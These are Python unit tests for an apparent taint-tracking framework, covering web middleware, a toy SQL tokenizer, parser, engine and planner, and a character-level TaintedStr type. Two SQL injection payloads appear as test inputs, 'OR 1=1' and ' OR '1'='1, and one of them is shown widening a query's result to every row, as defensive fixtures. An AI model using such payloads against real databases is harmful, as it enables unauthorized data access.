        @app.route("/home")
        def home(request, response):
            response.write("home")

        app.handle(Request("/home"))
        app.handle(Request("/api/v1"))
        assert seen == ["/api/v1"]

    def test_short_circuit_still_works_inside_the_scope(self, env):
        from repro.web import ScopedMiddleware
        app = WebApplication(env)

        def gate(request, response):
            return Response("denied", status=403)

        app.middleware(ScopedMiddleware("/admin", gate))

        @app.route("/admin/panel")
        def panel(request, response):
            response.write("panel")

        @app.route("/open")
        def open_page(request, response):
            response.write("open")

        assert app.handle(Request("/admin/panel")).status == 403
        assert app.handle(Request("/open")).body() == "open"

    def test_bind_propagates_to_the_wrapped_middleware(self, env):
        from repro.web import ScopedMiddleware, SessionMiddleware
        app = WebApplication(env)
        inner = SessionMiddleware()
        app.middleware(ScopedMiddleware("/account", inner))
        assert inner.app is app


class TestRequestLogMiddleware:
    def test_logs_method_path_user_and_final_status(self, env):
        from repro.web import RequestLogMiddleware
        app = WebApplication(env)
        log = RequestLogMiddleware()
        app.middleware(log)

        @app.route("/page")
        def page(request, response):
            response.write("ok")

        app.handle(Request("/page", user="alice"))
        app.handle(Request("/missing", user="bob"))
        assert log.entries == [(1, "GET", "/page", "alice", 200),
                               (2, "GET", "/missing", "bob", 404)]

    def test_scoped_log_sees_only_its_subtree(self, env):
        from repro.web import RequestLogMiddleware
        app = WebApplication(env)
        entries = []
        app.middleware(RequestLogMiddleware(entries), prefix="/admin")

        @app.route("/admin/panel")
        def panel(request, response):
            response.write("panel")

        @app.route("/public")
        def public(request, response):
            response.write("public")

        app.handle(Request("/public", user="eve"))
        app.handle(Request("/admin/panel", user="root"))
        assert entries == [(2, "GET", "/admin/panel", "root", 200)]
