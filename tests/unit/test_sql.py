"""Unit tests for the SQL substrate: tokenizer, parser, engine."""

import pytest

from repro.core.exceptions import SQLError
from repro.core.policyset import PolicySet
from repro.policies import UntrustedData
from repro.sql import nodes, parse, tokenize
from repro.sql.engine import Engine
from repro.sql.tokenizer import IDENT, KEYWORD, NUMBER, OP, PUNCT, STRING
from repro.tracking.propagation import concat
from repro.tracking.tainted_str import taint_str

U = UntrustedData("test")


class TestTokenizer:
    def test_basic_tokens(self):
        tokens = tokenize("SELECT a, b FROM t WHERE x = 1")
        kinds = [t.type for t in tokens]
        assert kinds[:4] == [KEYWORD, IDENT, PUNCT, IDENT]
        assert tokens[-1].type == "EOF"

    def test_keywords_case_insensitive(self):
        assert tokenize("select")[0].value == "select"
        assert tokenize("SeLeCt")[0].value == "select"

    def test_string_literal_with_escaped_quote(self):
        token = tokenize("'it''s'")[0]
        assert token.type == STRING
        assert str(token.value) == "it's"

    def test_string_literal_keeps_policies(self):
        query = concat("SELECT * FROM t WHERE name = '", taint_str("bob", U),
                       "'")
        strings = [t for t in tokenize(query) if t.type == STRING]
        assert strings[0].value.policies() == PolicySet.of(U)

    def test_structure_tokens_keep_policies(self):
        query = concat("SELECT * FROM t WHERE x = ", taint_str("1 OR 1=1", U))
        structural = [t for t in tokenize(query)
                      if t.type in (KEYWORD, IDENT, OP, NUMBER)]
        tainted = [t for t in structural
                   if getattr(t.text, "policies", lambda: PolicySet.empty())()]
        assert tainted  # the injected OR / 1 tokens carry the taint

    def test_numbers(self):
        tokens = tokenize("42 3.14")
        assert tokens[0].value == 42
        assert tokens[1].value == pytest.approx(3.14)

    def test_comments_skipped(self):
        tokens = tokenize("SELECT a FROM t -- trailing comment")
        assert tokens[-2].value == "t"
        tokens = tokenize("SELECT /* inline */ a FROM t")
        assert [t.value for t in tokens if t.type == IDENT] == ["a", "t"]

    def test_operators(self):
        values = [t.value for t in tokenize("a <> b != c <= d >= e < f > g")
                  if t.type == OP]
        assert values == ["!=", "!=", "<=", ">=", "<", ">"]

    def test_backquoted_identifier(self):
        tokens = tokenize("SELECT `weird name` FROM t")
        assert tokens[1].type == IDENT and str(tokens[1].value) == "weird name"

    def test_unterminated_string(self):
        with pytest.raises(SQLError):
            tokenize("SELECT 'oops")

    def test_unexpected_character(self):
        with pytest.raises(SQLError):
            tokenize("SELECT @foo")


class TestParser:
    def test_create_table(self):
        stmt = parse("CREATE TABLE t (id INTEGER PRIMARY KEY, name TEXT NOT "
                     "NULL, note VARCHAR(80))")
        assert isinstance(stmt, nodes.CreateTable)
        assert [c.name for c in stmt.columns] == ["id", "name", "note"]
        assert "PRIMARY KEY" in stmt.columns[0].constraints

    def test_create_if_not_exists(self):
        assert parse("CREATE TABLE IF NOT EXISTS t (a TEXT)").if_not_exists

    def test_drop(self):
        assert parse("DROP TABLE IF EXISTS t").if_exists

    def test_insert_multiple_rows(self):
        stmt = parse("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')")
        assert len(stmt.rows) == 2
        assert stmt.columns == ["a", "b"]

    def test_insert_arity_mismatch(self):
        with pytest.raises(SQLError):
            parse("INSERT INTO t (a, b) VALUES (1)")

    def test_select_full_clause(self):
        stmt = parse("SELECT DISTINCT a, b AS label FROM t WHERE a = 1 AND "
                     "b LIKE 'x%' ORDER BY a DESC LIMIT 5 OFFSET 2")
        assert stmt.distinct
        assert stmt.items[1].alias == "label"
        assert stmt.limit == 5 and stmt.offset == 2
        assert stmt.order_by[0].descending

    def test_select_star_and_functions(self):
        stmt = parse("SELECT COUNT(*), MAX(score) FROM t")
        assert stmt.items[0].expr.star
        assert stmt.items[1].expr.name == "max"

    def test_where_operators(self):
        stmt = parse("SELECT a FROM t WHERE NOT (a IN (1, 2) OR b IS NOT "
                     "NULL) AND c != 3")
        assert isinstance(stmt.where, nodes.BinaryOp)

    def test_update(self):
        stmt = parse("UPDATE t SET a = 1, b = 'x' WHERE id = 3")
        assert [c for c, _ in stmt.assignments] == ["a", "b"]

    def test_delete(self):
        stmt = parse("DELETE FROM t WHERE a = 1")
        assert isinstance(stmt, nodes.Delete)

    def test_keyword_usable_as_identifier(self):
        stmt = parse("SELECT key FROM t WHERE key = 'x'")
        assert stmt.items[0].expr.name == "key"

    def test_trailing_garbage_rejected(self):
        with pytest.raises(SQLError):
            parse("SELECT a FROM t garbage %")
        with pytest.raises(SQLError):
            parse("SELECT a FROM t; SELECT b FROM t")

    def test_unsupported_statement(self):
        with pytest.raises(SQLError):
            parse("GRANT ALL ON t TO public")

    def test_to_sql_roundtrip(self):
        text = "SELECT a, b FROM t WHERE (a = 1 AND b LIKE 'x%') LIMIT 3"
        stmt = parse(text)
        again = parse(str(stmt.to_sql()))
        assert str(again.to_sql()) == str(stmt.to_sql())

    def test_to_sql_preserves_literal_policies(self):
        query = concat("SELECT a FROM t WHERE name = '", taint_str("eve", U),
                       "'")
        rendered = parse(query).to_sql()
        assert rendered.policies() == PolicySet.of(U)


class TestEngine:
    @pytest.fixture
    def engine(self):
        engine = Engine()
        engine.run("CREATE TABLE users (id INTEGER, name TEXT, age INTEGER)")
        engine.run("INSERT INTO users (id, name, age) VALUES "
                       "(1, 'alice', 30), (2, 'bob', 25), (3, 'carol', 35)")
        return engine

    def test_select_all(self, engine):
        result = engine.run("SELECT * FROM users")
        assert len(result) == 3
        assert result.columns == ["id", "name", "age"]

    def test_select_where(self, engine):
        result = engine.run("SELECT name FROM users WHERE age > 26")
        assert sorted(str(r["name"]) for r in result) == ["alice", "carol"]

    def test_select_order_and_limit(self, engine):
        result = engine.run(
            "SELECT name FROM users ORDER BY age DESC LIMIT 2")
        assert [str(r["name"]) for r in result] == ["carol", "alice"]

    def test_select_offset(self, engine):
        result = engine.run(
            "SELECT name FROM users ORDER BY age ASC LIMIT 2 OFFSET 1")
        assert [str(r["name"]) for r in result] == ["alice", "carol"]

    def test_like(self, engine):
        result = engine.run("SELECT name FROM users WHERE name LIKE 'a%'")
        assert [str(r["name"]) for r in result] == ["alice"]

    def test_in_and_not_in(self, engine):
        assert len(engine.run(
            "SELECT id FROM users WHERE id IN (1, 3)")) == 2
        assert len(engine.run(
            "SELECT id FROM users WHERE id NOT IN (1, 3)")) == 1

    def test_is_null(self, engine):
        engine.run("INSERT INTO users (id, name) VALUES (4, 'dave')")
        assert len(engine.run(
            "SELECT id FROM users WHERE age IS NULL")) == 1
        assert len(engine.run(
            "SELECT id FROM users WHERE age IS NOT NULL")) == 3

    def test_aggregates(self, engine):
        result = engine.run(
            "SELECT COUNT(*) AS n, MIN(age) AS lo, MAX(age) AS hi, "
            "AVG(age) AS mean, SUM(age) AS total FROM users")
        row = result.rows[0]
        assert (row["n"], row["lo"], row["hi"]) == (3, 25, 35)
        assert row["total"] == 90 and row["mean"] == 30

    def test_scalar_functions(self, engine):
        row = engine.run(
            "SELECT UPPER(name) AS u, LENGTH(name) AS l FROM users "
            "WHERE id = 1").rows[0]
        assert row["u"] == "ALICE" and row["l"] == 5

    def test_distinct(self, engine):
        engine.run("INSERT INTO users (id, name, age) VALUES (5, 'alice', 30)")
        assert len(engine.run("SELECT name FROM users")) == 4
        assert len(engine.run("SELECT DISTINCT name FROM users")) == 3

    def test_update(self, engine):
        count = engine.run(
            "UPDATE users SET age = 31 WHERE name = 'alice'").rowcount
        assert count == 1
        assert engine.run(
            "SELECT age FROM users WHERE name = 'alice'").scalar() == 31

    def test_delete(self, engine):
        assert engine.run("DELETE FROM users WHERE age < 30").rowcount == 1
        assert len(engine.run("SELECT * FROM users")) == 2

    def test_drop_and_missing_table(self, engine):
        engine.run("DROP TABLE users")
        with pytest.raises(SQLError):
            engine.run("SELECT * FROM users")
        engine.run("DROP TABLE IF EXISTS users")

    def test_create_duplicate_table(self, engine):
        with pytest.raises(SQLError):
            engine.run("CREATE TABLE users (x TEXT)")
        engine.run("CREATE TABLE IF NOT EXISTS users (x TEXT)")

    def test_insert_unknown_column(self, engine):
        with pytest.raises(SQLError):
            engine.run("INSERT INTO users (nope) VALUES (1)")

    def test_select_unknown_column(self, engine):
        with pytest.raises(SQLError):
            engine.run("SELECT nope FROM users WHERE nope = 1")

    def test_select_without_from(self):
        result = Engine().run("SELECT 1 AS one, 'x' AS label")
        assert result.rows[0]["one"] == 1

    def test_classic_injection_widens_result(self, engine):
        # The substrate behaves like a real database: a ' OR '1'='1 payload
        # really does return every row, which is what the guard must stop.
        result = engine.run(
            "SELECT name FROM users WHERE name = 'x' OR '1'='1'")
        assert len(result) == 3

    def test_result_row_positional_access(self, engine):
        row = engine.run("SELECT id, name FROM users WHERE id = 1").rows[0]
        assert row[0] == 1 and str(row[1]) == "alice"
        assert row.values_list() == [1, "alice"]

    def test_null_comparisons_are_false(self, engine):
        engine.run("INSERT INTO users (id, name) VALUES (9, 'nil')")
        assert len(engine.run(
            "SELECT id FROM users WHERE age = 30 AND name = 'nil'")) == 0
