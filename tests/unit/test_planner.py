"""Unit tests for the query-plan pipeline: planner shapes, the stable
``explain()`` contract, index DDL parsing, parameter binding, the
``PreparedQuery`` handle, the deprecation shims, and property tests for the
semantics helpers (``sql_like``, ``sort_key``) and the index candidate
generator."""

import math
import re
import string
import warnings

import pytest
from hypothesis import given, settings, strategies as st

from repro.channels.sqlchan import Database, PreparedQuery
from repro.core.exceptions import SQLError
from repro.sql import nodes
from repro.sql.engine import Engine
from repro.sql.executor import sort_key, sql_like
from repro.sql.indexes import SecondaryIndex
from repro.sql.parser import parse
from repro.sql.planner import bind_parameters, collect_params


def engine_with_rows():
    engine = Engine()
    engine.run("CREATE TABLE t (id INTEGER, grp INTEGER, name TEXT)")
    engine.run("INSERT INTO t (id, grp, name) VALUES "
               "(1, 10, 'a'), (2, 10, 'b'), (3, 20, 'c'), (4, 20, 'd')")
    return engine


class TestPlanShapes:
    def test_seq_scan_without_index(self):
        engine = engine_with_rows()
        lines = engine.explain_lines("SELECT name FROM t WHERE id = 2")
        assert lines[0] == "Project [name]"
        assert lines[1] == "  Filter (id = 2)"
        assert lines[2] == "    SeqScan t"

    def test_index_lookup_with_index(self):
        engine = engine_with_rows()
        engine.create_index("t", "id")
        lines = engine.explain_lines("SELECT name FROM t WHERE id = 2")
        assert lines[2] == "    IndexLookup t.id USING idx_t_id (sorted) probes=[2]"

    def test_index_range(self):
        engine = engine_with_rows()
        engine.create_index("t", "id")
        lines = engine.explain_lines(
            "SELECT name FROM t WHERE id >= 2 AND id < 4")
        assert any(line.strip().startswith("IndexRange t.id") for line in lines)

    def test_filter_always_reapplies_where(self):
        # The index is only a candidate generator: the Filter node sits
        # above every access path, even a fully-covering IndexLookup.
        engine = engine_with_rows()
        engine.create_index("t", "id")
        lines = engine.explain_lines("SELECT name FROM t WHERE id = 2")
        assert any("Filter" in line for line in lines)

    def test_order_limit_nodes(self):
        engine = engine_with_rows()
        lines = engine.explain_lines(
            "SELECT name FROM t ORDER BY id DESC LIMIT 2 OFFSET 1")
        joined = "\n".join(lines)
        assert "Sort" in joined and "Slice" in joined

    def test_aggregate_plan(self):
        engine = engine_with_rows()
        lines = engine.explain_lines("SELECT count(*) FROM t WHERE grp = 10")
        assert lines[0].startswith("Aggregate")

    def test_in_list_uses_index_probes(self):
        engine = engine_with_rows()
        engine.create_index("t", "id")
        lines = engine.explain_lines(
            "SELECT name FROM t WHERE id IN (1, 3)")
        assert any("probes=[1, 3]" in line for line in lines)

    def test_two_space_indent_contract(self):
        engine = engine_with_rows()
        engine.create_index("t", "id")
        lines = engine.explain_lines("SELECT name FROM t WHERE id = 2")
        for depth, line in enumerate(lines):
            assert line.startswith("  " * depth)
            assert not line[depth * 2:].startswith(" ")


class TestIndexDDL:
    def test_create_and_drop_index_sql(self):
        engine = engine_with_rows()
        engine.run("CREATE INDEX idx_by_grp ON t (grp)")
        assert "idx_by_grp" in engine.tables["t"].indexes
        engine.run("DROP INDEX idx_by_grp")
        assert "idx_by_grp" not in engine.tables["t"].indexes

    def test_create_index_using_hash(self):
        engine = engine_with_rows()
        engine.run("CREATE INDEX h ON t (grp) USING hash")
        assert engine.tables["t"].indexes["h"].kind == "hash"

    def test_if_not_exists_and_if_exists(self):
        engine = engine_with_rows()
        engine.run("CREATE INDEX i ON t (id)")
        engine.run("CREATE INDEX IF NOT EXISTS i ON t (id)")
        with pytest.raises(SQLError):
            engine.run("CREATE INDEX i ON t (id)")
        engine.run("DROP INDEX i")
        engine.run("DROP INDEX IF EXISTS i")
        with pytest.raises(SQLError):
            engine.run("DROP INDEX i")

    def test_unknown_column_rejected(self):
        engine = engine_with_rows()
        with pytest.raises(SQLError):
            engine.run("CREATE INDEX bad ON t (nope)")

    def test_explain_statement_roundtrip(self):
        engine = engine_with_rows()
        result = engine.run("EXPLAIN SELECT name FROM t WHERE id = 1")
        assert result.columns == ["plan"]
        assert result.rows[0]["plan"].startswith("Project")

    def test_nested_explain_rejected(self):
        with pytest.raises(SQLError):
            parse("EXPLAIN EXPLAIN SELECT 1")


class TestIndexMaintenance:
    def test_insert_update_delete_keep_index_exact(self):
        engine = engine_with_rows()
        engine.create_index("t", "grp")
        engine.run("INSERT INTO t (id, grp, name) VALUES (5, 10, 'e')")
        engine.run("UPDATE t SET grp = 30 WHERE id = 1")
        engine.run("DELETE FROM t WHERE id = 3")
        index = engine.tables["t"].indexes["idx_t_grp"]
        rows = engine.tables["t"].rows
        for probe in (10, 20, 30, 99):
            expected = [pos for pos, row in enumerate(rows)
                        if row["grp"] == probe]
            got = [pos for pos in index.lookup_eq([probe])
                   if rows[pos]["grp"] == probe]
            assert got == expected

    def test_queries_agree_after_mutations(self):
        engine = engine_with_rows()
        engine.create_index("t", "id")
        engine.run("UPDATE t SET id = 40 WHERE name = 'd'")
        assert [r["name"] for r in
                engine.run("SELECT name FROM t WHERE id = 40").rows] == ["d"]
        assert engine.run("SELECT count(*) FROM t WHERE id = 4").scalar() == 0


class TestParameters:
    def test_collect_and_bind(self):
        stmt = parse("SELECT * FROM t WHERE id = :pk AND grp = :g")
        assert collect_params(stmt) == {"pk", "g"}
        bound = bind_parameters(stmt, {"pk": 2, "g": 10})
        assert collect_params(bound) == set()

    def test_unbound_param_raises_at_execution(self):
        engine = engine_with_rows()
        with pytest.raises(SQLError, match="unbound parameter :pk"):
            engine.run(parse("SELECT * FROM t WHERE id = :pk"))

    def test_param_token_requires_name(self):
        with pytest.raises(SQLError):
            parse("SELECT * FROM t WHERE id = :")


class TestPreparedQuery:
    def make_db(self):
        db = Database()
        db.execute_unchecked("CREATE TABLE t (id INTEGER, name TEXT)")
        db.query("INSERT INTO t (id, name) VALUES (1, 'a'), (2, 'b')")
        return db

    def test_eager_execution_and_result_delegation(self):
        db = self.make_db()
        q = db.query("SELECT name FROM t WHERE id = 1")
        assert isinstance(q, PreparedQuery)
        assert q.scalar() == "a"
        assert [r["name"] for r in q] == ["a"]
        assert len(q) == 1
        assert q.columns == ["name"]

    def test_unbound_params_defer_execution(self):
        db = self.make_db()
        q = db.query("SELECT name FROM t WHERE id = :pk")
        with pytest.raises(SQLError, match="unbound"):
            q.rows
        assert q.run(pk=2).scalar() == "b"
        assert q.run(pk=1).scalar() == "a"

    def test_constructor_params_execute_eagerly(self):
        db = self.make_db()
        q = db.query("SELECT name FROM t WHERE id = :pk", {"pk": 2})
        assert q.scalar() == "b"

    def test_rerun_sees_new_rows(self):
        db = self.make_db()
        q = db.query("SELECT count(*) FROM t")
        assert q.scalar() == 2
        db.query("INSERT INTO t (id, name) VALUES (3, 'c')")
        assert q.run().scalar() == 3

    def test_explain_has_policy_mode_header(self):
        db = self.make_db()
        text = db.query("SELECT name FROM t WHERE id = 1").explain()
        lines = text.splitlines()
        assert lines[0] == "PolicyMode observe"
        assert lines[1].startswith("Project")

    def test_explain_shows_unbound_params(self):
        db = self.make_db()
        q = db.query("SELECT name FROM t WHERE id = :pk")
        assert ":pk" in q.explain()

    def test_explain_sql_matches_query_explain(self):
        db = self.make_db()
        via_sql = [row["plan"] for row in
                   db.query("EXPLAIN SELECT name FROM t WHERE id = 1").rows]
        via_handle = db.query("SELECT name FROM t WHERE id = 1") \
            .explain().splitlines()
        assert via_sql == via_handle


class TestDeprecationShims:
    def test_database_execute_warns_and_works(self):
        db = Database()
        db.execute_unchecked("CREATE TABLE t (id INTEGER)")
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            db.execute("INSERT INTO t (id) VALUES (7)")
            result = db.execute("SELECT id FROM t")
        assert result.scalar() == 7
        assert {w.category for w in caught} == {DeprecationWarning}

    def test_engine_execute_warns_and_works(self):
        engine = Engine()
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            engine.execute("CREATE TABLE t (id INTEGER)")
        assert "t" in engine.tables
        assert {w.category for w in caught} == {DeprecationWarning}


# -- semantics helpers ---------------------------------------------------------


def like_reference(pattern: str, text: str) -> bool:
    """Naive O(n*m) LIKE matcher (dynamic programming), case-insensitive:
    the oracle for ``sql_like``."""
    p, t = pattern.lower(), text.lower()
    matches = [[False] * (len(t) + 1) for _ in range(len(p) + 1)]
    matches[0][0] = True
    for i in range(1, len(p) + 1):
        if p[i - 1] == "%":
            matches[i][0] = matches[i - 1][0]
    for i in range(1, len(p) + 1):
        for j in range(1, len(t) + 1):
            if p[i - 1] == "%":
                matches[i][j] = matches[i - 1][j] or matches[i][j - 1]
            elif p[i - 1] == "_" or p[i - 1] == t[j - 1]:
                matches[i][j] = matches[i - 1][j - 1]
    return matches[len(p)][len(t)]


class TestSqlLike:
    @pytest.mark.parametrize("pattern,text,expected", [
        ("50%+", "50%+", True),          # regex metachars are literals
        ("50%+", "50 anything+", True),  # % still a wildcard
        ("50%+", "50 anything", False),
        ("a.b_c", "a.bxc", True),
        ("a.b_c", "aXbxc", False),       # . is literal, not any-char
        ("(x)", "(x)", True),
        ("[ab]", "[ab]", True),
        ("[ab]", "a", False),
        ("c\\d", "c\\d", True),
        ("100%", "100 percent", True),
        ("_%", "", False),
        ("%", "", True),
        ("a%z", "a\nz", True),           # wildcards cross newlines
    ])
    def test_metacharacters_are_literal(self, pattern, text, expected):
        assert sql_like(text, pattern) is expected

    @given(pattern=st.text(alphabet=string.printable, max_size=8),
           text=st.text(alphabet=string.printable, max_size=12))
    @settings(max_examples=300)
    def test_matches_reference_matcher(self, pattern, text):
        assert sql_like(text, pattern) == like_reference(pattern, text)


class TestSortKey:
    def test_nan_sorts_with_total_order(self):
        values = [3.0, float("nan"), 1, None, "x", float("nan")]
        ordered = sorted(values, key=sort_key)
        assert ordered[0] is None
        assert math.isnan(ordered[1]) and math.isnan(ordered[2])
        assert ordered[3:] == [1, 3.0, "x"]

    @given(values=st.lists(
        st.one_of(st.none(), st.integers(-10**20, 10**20),
                  st.floats(allow_nan=True, allow_infinity=True),
                  st.text(max_size=6)),
        max_size=12))
    @settings(max_examples=150)
    def test_total_order_never_raises(self, values):
        ordered = sorted(values, key=sort_key)
        assert len(ordered) == len(values)


# -- the index as a candidate generator ----------------------------------------

mixed_cells = st.one_of(
    st.none(),
    st.integers(-10**19, 10**19),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(alphabet=string.printable, max_size=6),
    st.sampled_from(["1", "1.0", "01", " 1", "nan", "inf", "-0", ""]),
)

probe_values = st.one_of(
    st.integers(-10**19, 10**19),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(alphabet=string.printable, max_size=6),
    st.sampled_from(["1", "1.0", "01", " 1", "nan", "inf", "-0", ""]),
)


class TestIndexCompleteness:
    """The only correctness requirement on the index: *no false negatives*.

    Every row the engine's ``=`` / range semantics would match must appear
    among the candidates; the Filter node above discards false positives."""

    @staticmethod
    def build(cells):
        index = SecondaryIndex("i", "t", "c")
        rows = [{"c": cell} for cell in cells]
        index.rebuild(rows)
        return index, rows

    @given(cells=st.lists(mixed_cells, max_size=14), probe=probe_values)
    @settings(max_examples=300)
    def test_equality_candidates_are_superset(self, cells, probe):
        from repro.sql.executor import sql_equal
        index, rows = self.build(cells)
        expected = {pos for pos, row in enumerate(rows)
                    if sql_equal(row["c"], probe)}
        candidates = set(index.lookup_eq([probe]))
        assert expected <= candidates

    @given(cells=st.lists(mixed_cells, max_size=14),
           lo=probe_values, hi=probe_values)
    @settings(max_examples=300)
    def test_range_candidates_are_superset(self, cells, lo, hi):
        from repro.sql.executor import coerce_pair
        index, rows = self.build(cells)

        def in_range(value):
            if value is None:
                return False
            try:
                a, b = coerce_pair(value, lo)
                if not a >= b:
                    return False
                a, b = coerce_pair(value, hi)
                return bool(a <= b)
            except TypeError:
                return False

        expected = {pos for pos, row in enumerate(rows)
                    if in_range(row["c"])}
        candidates = set(index.lookup_range(lo=lo, hi=hi))
        assert expected <= candidates

    @given(cells=st.lists(mixed_cells, max_size=14))
    @settings(max_examples=100)
    def test_incremental_add_equals_rebuild(self, cells):
        incremental = SecondaryIndex("i", "t", "c")
        rows = []
        for position, cell in enumerate(cells):
            rows.append({"c": cell})
            incremental.add_row(position, rows[position])
        rebuilt = SecondaryIndex("i", "t", "c")
        rebuilt.rebuild(rows)
        for probe in list(cells) + [0, "x"]:
            if probe is None:
                continue
            assert (incremental.lookup_eq([probe])
                    == rebuilt.lookup_eq([probe]))
