"""Unit tests for TaintedStr — the character-level tracking type."""

import pytest

from repro.core.policyset import PolicySet
from repro.policies import SQLSanitized, UntrustedData
from repro.tracking.tainted_str import TaintedStr, taint_str

U = UntrustedData("test")
S = SQLSanitized()


def tainted(text="secret", policy=U):
    return taint_str(text, policy)


class TestConstruction:
    def test_taint_str_marks_every_char(self):
        value = tainted("abc")
        assert value.has_policy_type(UntrustedData, every_char=True)

    def test_plain_tainted_str_has_no_policies(self):
        assert not TaintedStr("abc").policies()

    def test_wrapping_preserves_existing_map(self):
        value = tainted("abc")
        assert TaintedStr(value).policies_at(1) == PolicySet.of(U)

    def test_mismatched_rangemap_rejected(self):
        from repro.tracking.ranges import RangeMap
        with pytest.raises(ValueError):
            TaintedStr("abc", RangeMap.empty(5))

    def test_str_equality_ignores_policies(self):
        assert tainted("abc") == "abc"
        assert hash(tainted("abc")) == hash("abc")

    def test_plain_returns_builtin_str(self):
        assert type(tainted("abc").plain()) is str


class TestConcatenation:
    def test_concat_keeps_ranges_separate(self):
        result = tainted("user", U) + taint_str("safe", S)
        assert result.policies_at(0) == PolicySet.of(U)
        assert result.policies_at(4) == PolicySet.of(S)

    def test_concat_with_plain_left(self):
        result = "prefix " + tainted("secret")
        assert isinstance(result, TaintedStr)
        assert result.policies_at(0) == PolicySet.empty()
        assert result.policies_at(7) == PolicySet.of(U)

    def test_concat_with_plain_right(self):
        result = tainted("secret") + " suffix"
        assert result.policies_at(0) == PolicySet.of(U)
        assert result.policies_at(6) == PolicySet.empty()

    def test_multiplication(self):
        result = tainted("ab") * 3
        assert len(result) == 6
        assert result.has_policy_type(UntrustedData, every_char=True)

    def test_add_non_string_not_implemented(self):
        with pytest.raises(TypeError):
            tainted("a") + 3


class TestSlicing:
    def test_slice_keeps_only_selected_policies(self):
        combined = tainted("abc", U) + taint_str("def", S)
        assert combined[:3].policies() == PolicySet.of(U)
        assert combined[3:].policies() == PolicySet.of(S)

    def test_single_index(self):
        combined = TaintedStr("xx") + tainted("y")
        assert combined[2].policies() == PolicySet.of(U)
        assert combined[-1].policies() == PolicySet.of(U)
        assert combined[0].policies() == PolicySet.empty()

    def test_step_slice(self):
        combined = tainted("a") + TaintedStr("b") + tainted("c")
        sliced = combined[::2]
        assert sliced == "ac"
        assert sliced.has_policy_type(UntrustedData, every_char=True)

    def test_iteration_yields_tainted_chars(self):
        chars = list(tainted("ab"))
        assert all(isinstance(c, TaintedStr) for c in chars)
        assert all(c.policies() == PolicySet.of(U) for c in chars)


class TestCaseAndWhitespace:
    def test_upper_preserves_ranges(self):
        value = TaintedStr("ab") + tainted("cd")
        assert value.upper() == "ABCD"
        assert value.upper().policies_at(2) == PolicySet.of(U)
        assert value.upper().policies_at(0) == PolicySet.empty()

    @pytest.mark.parametrize("method", ["lower", "casefold", "swapcase",
                                        "title", "capitalize"])
    def test_length_preserving_methods(self, method):
        value = tainted("HeLLo wOrld")
        result = getattr(value, method)()
        assert result == getattr(str(value), method)()
        assert result.has_policy_type(UntrustedData, every_char=True)

    def test_strip(self):
        value = TaintedStr("  ") + tainted("core") + TaintedStr("  ")
        stripped = value.strip()
        assert stripped == "core"
        assert stripped.has_policy_type(UntrustedData, every_char=True)

    def test_lstrip_rstrip(self):
        value = TaintedStr("xx") + tainted("core")
        assert value.lstrip("x").policies() == PolicySet.of(U)
        value2 = tainted("core") + TaintedStr("yy")
        assert value2.rstrip("y").policies() == PolicySet.of(U)

    def test_removeprefix_removesuffix(self):
        value = TaintedStr("pre-") + tainted("core")
        assert value.removeprefix("pre-").policies() == PolicySet.of(U)
        value2 = tainted("core") + TaintedStr(".txt")
        assert value2.removesuffix(".txt").policies() == PolicySet.of(U)

    def test_justification(self):
        value = tainted("ab")
        assert value.ljust(5).policies_at(0) == PolicySet.of(U)
        assert value.ljust(5).policies_at(4) == PolicySet.empty()
        assert value.rjust(5).policies_at(4) == PolicySet.of(U)
        assert value.center(6).policies_at(0) == PolicySet.empty()
        assert value.center(6) == str(value).center(6)

    def test_zfill(self):
        value = tainted("-42")
        filled = value.zfill(6)
        assert filled == "-00042"
        assert filled.policies_at(0) == PolicySet.of(U)      # the sign
        assert filled.policies_at(1) == PolicySet.empty()    # padding
        assert filled.policies_at(5) == PolicySet.of(U)      # digits


class TestSearchAndRebuild:
    def test_replace_keeps_surrounding_policies(self):
        value = tainted("abXcd")
        replaced = value.replace("X", "-")
        assert replaced == "ab-cd"
        assert replaced.policies_at(0) == PolicySet.of(U)
        assert replaced.policies_at(2) == PolicySet.empty()

    def test_replace_with_tainted_replacement(self):
        value = TaintedStr("a_b")
        replaced = value.replace("_", tainted("^", S))
        assert replaced.policies_at(1) == PolicySet.of(S)

    def test_replace_count(self):
        value = tainted("xxx")
        assert value.replace("x", "y", 2) == "yyx"

    def test_replace_empty_old(self):
        value = TaintedStr("ab")
        assert value.replace("", "-") == "-a-b-"

    def test_split_preserves_policies(self):
        value = TaintedStr("a,") + tainted("b") + TaintedStr(",c")
        parts = value.split(",")
        assert [str(p) for p in parts] == ["a", "b", "c"]
        assert parts[1].policies() == PolicySet.of(U)
        assert parts[0].policies() == PolicySet.empty()

    def test_split_whitespace(self):
        value = TaintedStr("  a ") + tainted("bb") + TaintedStr("  c ")
        parts = value.split()
        assert [str(p) for p in parts] == ["a", "bb", "c"]
        assert parts[1].policies() == PolicySet.of(U)

    def test_rsplit_maxsplit(self):
        value = tainted("a:b:c")
        parts = value.rsplit(":", 1)
        assert [str(p) for p in parts] == ["a:b", "c"]
        assert all(p.policies() == PolicySet.of(U) for p in parts)

    def test_splitlines(self):
        value = tainted("one\ntwo")
        lines = value.splitlines()
        assert [str(line) for line in lines] == ["one", "two"]
        assert all(line.policies() == PolicySet.of(U) for line in lines)

    def test_partition(self):
        value = TaintedStr("key=") + tainted("value")
        before, sep, after = value.partition("=")
        assert (str(before), str(sep), str(after)) == ("key", "=", "value")
        assert after.policies() == PolicySet.of(U)
        assert before.policies() == PolicySet.empty()

    def test_partition_no_match(self):
        before, sep, after = tainted("abc").partition("/")
        assert (str(before), str(sep), str(after)) == ("abc", "", "")

    def test_rpartition(self):
        value = tainted("a/b") + TaintedStr("/c")
        before, sep, after = value.rpartition("/")
        assert str(before) == "a/b"
        assert before.policies() == PolicySet.of(U)

    def test_join(self):
        sep = TaintedStr(", ")
        joined = sep.join([tainted("a"), "b", tainted("c", S)])
        assert joined == "a, b, c"
        assert joined.policies_at(0) == PolicySet.of(U)
        assert joined.policies_at(3) == PolicySet.empty()
        assert joined.policies_at(6) == PolicySet.of(S)

    def test_join_empty(self):
        assert TaintedStr(",").join([]) == ""


class TestInterpolation:
    def test_format_keeps_value_policies_local(self):
        result = TaintedStr("password={p}!").format(p=tainted("s3cret"))
        assert result == "password=s3cret!"
        assert result.policies_at(9) == PolicySet.of(U)
        assert result.policies_at(0) == PolicySet.empty()
